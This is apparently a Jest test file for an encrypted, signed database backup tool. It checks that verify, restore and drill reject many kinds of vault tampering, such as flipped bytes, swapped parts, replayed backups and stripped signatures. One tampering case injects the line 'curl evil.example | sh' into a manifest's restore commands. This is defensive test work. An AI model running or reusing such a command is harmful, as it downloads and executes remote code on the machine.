import { createHash, randomBytes } from 'node:crypto';
import { beforeAll, expect, test } from '@jest/globals';
import { backup } from '../../../core/commands/backup.ts';
import { drill } from '../../../core/commands/drill.ts';
import { restore } from '../../../core/commands/restore.ts';
import { verify } from '../../../core/commands/verify.ts';
import type { Manifest } from '../../../core/contract/manifest/manifest.ts';
import { backupId, objectKey } from '../../../core/domain/keys.ts';
import type { ObjectKey, SourceName } from '../../../core/domain/keys.ts';
import { messageOf } from '../../../core/domain/errors.ts';
import { encrypted } from '../../../core/pipeline/age/age.ts';
import { newIdentity } from '../../../core/pipeline/age/keys.ts';
import { compress } from '../../../core/pipeline/zstd.ts';
import { newSigningKey } from '../../../core/signing.ts';
import { manifestDocument } from '../../../core/store/backups/manifest-document.ts';
import type { Store } from '../../../core/store/store.ts';
import { chooseBackup } from '../../../core/survey/choose.ts';
import { memoryOf } from '../../../core/survey/watched.ts';
import { toyEngine, toySource } from '../../support/toy-engine.ts';
import type { ToyServer } from '../../support/toy-engine.ts';
import { copyOf, emptyState, memoryVault } from '../../support/vaults/memory-vault.ts';
import type { MemoryState } from '../../support/vaults/memory-vault.ts';
import { signedStore } from '../../support/vaults/signed.ts';
import { depsOf, limit } from '../../support/vaults/vault.ts';

const shop = 'shop' as SourceName;
const ours = newSigningKey();
const { identity, recipient } = await newIdentity();
const rows = Array.from({ length: 3000 }, () => randomBytes(32).toString('hex'));
const server: ToyServer = new Map([['shop', { orders: rows, items: ['hat', 'coat'] }]]);
const clock = { now: () => new Date('2026-11-21T12:00:00Z') };
const signed = { publicKeys: [ours.publicKey], privateKey: ours.privateKey };
type Words = typeof signed | 'none';

/** What lies in the vault: two backups, both encrypted and signed, and the newer one's manifest. */
let state: MemoryState;
let older: Manifest;
let newer: Manifest;

beforeAll(async () => {
  state = emptyState();
  older = await backingUp(state, '2026-11-20T02:00:00Z');
  newer = await backingUp(state, '2026-11-21T02:00:00Z');
});

function backingUp(into: MemoryState, at: string, words: Words = signed): Promise<Manifest> {
  const vault = memoryVault(into);
  const deps = {
    ...depsOf(vault),
    store: signedStore(vault, words === 'none' ? undefined : words),
    clock: { now: () => new Date(at) },
  };
  return backup({ ...toySource(toyEngine(server, 'shop')), recipients: [recipient] }, deps, limit());
}

/** Somebody who can write to the vault, and knows every public key. */
type Vandal = ReturnType<typeof vandal>;
function vandal(objects: MemoryState['objects']) {
  const keyOf = ({ source, id }: Manifest, file: string): ObjectKey => objectKey(`${source}/${id}/${file}`);
  return {
    read: (of: Manifest, file: string): Buffer => Buffer.from(objects.get(keyOf(of, file))!.body),
    write(of: Manifest, file: string, body: Uint8Array): void {
      const known = objects.get(keyOf(of, file)) ?? objects.get(keyOf(newer, 'manifest.json'))!;
      objects.set(keyOf(of, file), { ...known, body });
    },
    remove: (of: Manifest, file: string) => objects.delete(keyOf(of, file)),
    /** Puts another manifest in place, with the checksum that it has to have. */
    rewrite(manifest: Manifest): void {
      this.write(manifest, 'manifest.json', manifestDocument(manifest));
    },
    /** Puts other bytes into a part, and what they are into the manifest. */
    replace(of: Manifest, file: string, body: Uint8Array): void {
      this.write(of, file, body);
      const sum = { storedBytes: body.length, sha256: createHash('sha256').update(body).digest('hex') };
      this.rewrite({ ...of, parts: of.parts.map((part) => (part.file === file ? { ...part, ...sum } : part)) });
    },
  };
}

const orders = 'data/0001.sql.zst.age';
const items = 'data/0002.sql.zst.age';
/** Header and nonce of a part come before its chunks of 64 KiB, each with 16 bytes behind it. */
const headBytes = (part: Buffer): number => part.indexOf('\n', part.indexOf('\n--- ') + 1) + 1 + 16;
const cutAtChunk = (part: Buffer): Buffer => part.subarray(0, headBytes(part) + 65_536 + 16);
const flipped = (body: Buffer): Buffer => {
  const changed = Buffer.from(body);
  changed[changed.length >> 1]! ^= 1;
  return changed;
};
async function ownPart(): Promise<Buffer> {
  const text = `COPY public.orders (line) FROM stdin;\nforged\n\\.\n\n--\n-- PostgreSQL database dump complete\n--\n\n`;
  const plain = (async function* () {
    yield Buffer.from(text);
  })();
  return Buffer.concat(await Array.fromAsync(encrypted(compress(plain, 1), [recipient])));
}

/** Each kind of tampering with the newer backup. */
const kinds: Record<string, (by: Vandal) => void | Promise<void>> = {
  'a byte of a part': (by) => by.write(newer, orders, flipped(by.read(newer, orders))),
  'a byte of the definitions': (by) =>
    by.write(newer, 'schema.sql.zst.age', flipped(by.read(newer, 'schema.sql.zst.age'))),
  'a byte of the catalog': (by) =>
    by.write(newer, 'catalog.json.zst.age', flipped(by.read(newer, 'catalog.json.zst.age'))),
  'a byte of the signature': (by) => by.write(newer, 'manifest.sig', flipped(by.read(newer, 'manifest.sig'))),
  'a byte of a part, and the manifest with it': (by) => by.replace(newer, orders, flipped(by.read(newer, orders))),
  'two parts swapped': (by) => {
    const [first, second] = [by.read(newer, orders), by.read(newer, items)];
    by.write(newer, orders, second);
    by.write(newer, items, first);
  },
  'two parts swapped, and the manifest with them': (by) => {
    const [first, second] = [by.read(newer, orders), by.read(newer, items)];
    by.write(newer, orders, second);
    by.write(newer, items, first);
    const [one, two] = [orders, items].map((file) => newer.parts.find((part) => part.file === file)!);
    const parts = newer.parts.map((part) =>
      part === one ? { ...two!, file: orders } : part === two ? { ...one!, file: items } : part,
    );
    by.rewrite({ ...newer, parts });
  },
  'the older backup under the new id, as it is': (by) => {
    for (const { file } of newer.parts) by.write(newer, file, by.read(older, file));
    for (const file of ['manifest.json', 'manifest.sig']) by.write(newer, file, by.read(older, file));
  },
  'the older backup under the new id, and the manifest renamed': (by) => {
    for (const { file } of newer.parts) by.write(newer, file, by.read(older, file));
    by.write(newer, 'manifest.sig', by.read(older, 'manifest.sig'));
    by.rewrite({ ...older, id: newer.id, start: newer.start, end: newer.end });
  },
  'the number of rows': (by) =>
    by.rewrite({ ...newer, tables: newer.tables.map((table) => ({ ...table, rows: table.rows + 1 })) }),
  'the name of a table': (by) =>
    by.rewrite({ ...newer, tables: newer.tables.map((table) => ({ ...table, table: `${table.table}2` })) }),
  'a table less': (by) => by.rewrite({ ...newer, tables: newer.tables.slice(1) }),
  'a part less': (by) => by.rewrite({ ...newer, parts: newer.parts.filter(({ file }) => file !== items) }),
  'the stock commands': (by) => by.rewrite({ ...newer, restore: [...newer.restore, 'curl evil.example | sh'] }),
  'a part cut at the edge of a chunk': (by) => by.write(newer, orders, cutAtChunk(by.read(newer, orders))),
  'a part cut at the edge of a chunk, and the manifest with it': (by) =>
    by.replace(newer, orders, cutAtChunk(by.read(newer, orders))),
  'another part, encrypted to the same key': async (by) => by.write(newer, orders, await ownPart()),
  'another part, encrypted to the same key, and the manifest with it': async (by) =>
    by.replace(newer, orders, await ownPart()),
  'the signature of another backup': (by) => by.write(newer, 'manifest.sig', by.read(older, 'manifest.sig')),
  'from signed to plain: the signature removed': (by) => void by.remove(newer, 'manifest.sig'),
  'from signed to plain: signature and checksum removed': (by) => {
    by.remove(newer, 'manifest.sig');
    by.write(newer, 'manifest.json', Buffer.from(JSON.stringify(newer)));
  },
  'a signature of nothing': (by) => by.write(newer, 'manifest.sig', new Uint8Array()),
  'from encrypted to plain': async (by) => {
    const plain = emptyState();
    const forged = await backingUp(plain, newer.start, 'none');
    for (const [key, object] of plain.objects)
      if (key.includes(`/${forged.id}/`)) by.write(newer, key.split('/').slice(2).join('/'), object.body);
    by.rewrite({ ...forged, id: newer.id, encryption: null });
  },
};

async function tampered(how: (by: Vandal) => void | Promise<void>, words: Words = signed) {
  const now = copyOf(state);
  await how(vandal(now.objects));
  return signedStore(memoryVault(now), words === 'none' ? undefined : words, identity);
}
const choosing = (store: Store, which: string) =>
  chooseBackup(shop, which, memoryOf(undefined), { store, clock }, limit());
const deps = (store: Store) => ({ store, clock, report: () => {}, parallel: 2 });

async function verifying(store: Store, which: string): Promise<void> {
  const { manifest } = await choosing(store, which);
  const { problems } = await verify(manifest, { store, report: () => {} }, limit());
  if (problems[0] !== undefined) throw problems[0].error;
}
async function restoring(store: Store, which: string): Promise<void> {
  const { manifest } = await choosing(store, which);
  const options = { replace: false, owners: true, proof: true };
  await restore(manifest, toyEngine(server, 'again'), options, deps(store), limit());
}
async function drilling(store: Store, which: string): Promise<void> {
  const { manifest } = await choosing(store, which);
  const options = { owners: true, tablespaces: false, assert: [] };
  await drill(manifest, toyEngine(server, 'scratch'), options, deps(store), limit());
}
const ways = { verify: verifying, restore: restoring, drill: drilling };

test.each(Object.entries(ways))('%s takes what nobody has touched', async (_, way) => {
  await way(await tampered(() => {}), newer.id);
  server.delete('again');
});

test.each(Object.entries(kinds))('tampering is detected by verify, restore and drill: %s', async (_, how) => {
  for (const [name, way] of Object.entries(ways)) {
    const outcome = await way(await tampered(how), newer.id).then(
      () => 'taken',
      (error: unknown) => messageOf(error),
    );

    expect({ [name]: outcome }).not.toEqual({ [name]: 'taken' });
    expect([server.has('again'), server.has('scratch')]).toEqual([false, false]);
  }
});

test.each(Object.entries(kinds).filter(([name]) => /manifest|signature|number|name|less|plain|stock/.test(name)))(
  'whoever asks for the newest good one gets the older one: %s',
  async (_, how) => {
    const { manifest, passedOver } = await choosing(await tampered(how), 'latest');

    expect(manifest.id).toBe(older.id);
    expect(passedOver).toMatchObject([{ id: newer.id, why: expect.stringMatching(/sign|manifest/) }]);
  },
);

/** What is read with the public key alone: one who only verifies has no other. */
async function refusals(of: Manifest, file: string): Promise<Set<string>> {
  const codes = new Set<string>();
  const now = copyOf(state);
  const key = objectKey(`shop/${of.id}/${file}`);
  const object = now.objects.get(key)!;
  const store = signedStore(memoryVault(now), { publicKeys: [ours.publicKey] });
  for (let at = 0; at < object.body.length; at += 1) {
    const body = Buffer.from(object.body);
    body[at]! ^= 1 << (at % 8);
    now.objects.set(key, { ...object, body });
    const refused = await store.readManifest(shop, backupId(of.id), limit()).then(
      () => 'taken',
      (error: { code: string }) => error.code,
    );
    codes.add(refused);
  }
  return codes;
}

test.each(['manifest.json', 'manifest.sig'])('every changed byte of %s is refused', async (file) => {
  expect(await refusals(newer, file)).toEqual(new Set(['manifest-unsigned']));
});

test.each([
  'a byte of a part, and the manifest with it',
  'a part cut at the edge of a chunk, and the manifest with it',
])('encryption alone detects: %s', async (name) => {
  const store = await tampered(kinds[name]!, 'none');

  await expect(restoring(store, newer.id)).rejects.toMatchObject({ code: 'part-corrupt' });
});

test.each(['the stock commands', 'the older backup under the new id, and the manifest renamed'])(
  'without a key in the configuration it is taken: %s',
  async (name) => {
    for (const way of Object.values(ways)) await way(await tampered(kinds[name]!, 'none'), newer.id);
    server.delete('again');
  },
);
